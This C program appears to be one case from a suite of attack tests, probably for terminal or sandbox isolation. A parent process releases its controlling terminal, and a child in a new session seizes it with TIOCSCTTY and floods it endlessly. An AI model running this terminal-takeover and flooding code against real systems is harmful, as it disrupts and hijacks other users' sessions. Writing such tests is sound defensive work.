/*
 * Gives its terminal away: a child in a session of its own takes it after its parent let go, and floods it from the background.
 */
#include "../attack.h"

int main(void) {
  int gate[2];
  char byte;
  if (pipe(gate) != 0) return 1;
  signal(SIGHUP, SIG_IGN);
  signal(SIGTTOU, SIG_IGN);
  if (fork() == 0) {
    close(gate[1]);
    setsid();
    read(gate[0], &byte, 1);
    if (ioctl(0, TIOCSCTTY, 0) == 0) write(1, "taken\n", 6);
    for (;;) write(1, "flood", 5);
  }
  TRY("let go", ioctl(0, TIOCNOTTY));
  TRY("open /dev/tty", open("/dev/tty", O_RDWR));
  close(gate[1]);
  pause();
}
